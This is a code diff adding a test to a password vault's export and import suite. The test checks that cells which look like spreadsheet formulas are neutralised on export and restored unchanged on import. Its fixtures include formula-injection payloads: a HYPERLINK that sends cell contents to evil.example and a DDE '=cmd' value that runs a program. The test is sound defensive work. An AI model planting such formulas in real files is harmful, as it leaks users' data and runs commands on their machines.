@@ -501,6 +501,35 @@ describe('export and import', () => {
     expect(audit).toMatchObject({ districtId: w.districtA.id, actorId: w.people.adminA.id });
   });
 
+  it('neutralises spreadsheet formulas in every column but the password (issue 26.6)', async () => {
+    const risky = {
+      title: '=HYPERLINK("https://evil.example/?"&A1,"Open me")',
+      username: "=cmd|' /C calc'!A0",
+      notes: '+SUM(1+1)\n-then more',
+      password: '=Legit-Secret@Start',
+    };
+    await add({ ...risky, url: undefined });
+    const res = await call(t.app, 'POST', '/api/vault/export', {
+      cookie: w.cookies.adminA,
+      body: { password: TEST_PASSWORD },
+    });
+    const rows = Papa.parse<Record<string, string>>(res.body as string, {
+      header: true,
+      skipEmptyLines: true,
+    }).data;
+    const row = rows.find((r) => r.login_password === risky.password)!;
+    expect(row).toMatchObject({
+      name: `'${risky.title}`,
+      login_username: `'${risky.username}`,
+      notes: `'${risky.notes}`,
+      login_password: risky.password,
+    });
+    // No cell but the password starts a formula.
+    for (const r of rows)
+      for (const [column, value] of Object.entries(r))
+        if (column !== 'login_password') expect(value, `${column}: ${value}`).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
   it('lets technicians export only when the district allows it, and only what they see', async () => {
     expect((await tech('POST', '/api/vault/export', { password: TEST_PASSWORD })).body.message).toBe(
       M.exportNotAllowed,
@@ -554,6 +583,10 @@ describe('export and import', () => {
     expect(log.body.map((e: { action: string }) => e.action)).toEqual(['import']);
     const quoted = list.find((e) => e.username === 'ps-admin' && e.hasNotes)!;
     expect((await reveal(quoted.id, mine)).status).toBe(200);
+    // A neutralised formula comes back as it was typed, the password untouched.
+    const formula = list.find((e) => e.title.startsWith('=HYPERLINK('))!;
+    expect(formula.username).toBe("=cmd|' /C calc'!A0");
+    expect((await reveal(formula.id, mine)).body.value).toBe('=Legit-Secret@Start');
   });
 
   it('reports rejected rows and adds nothing', async () => {
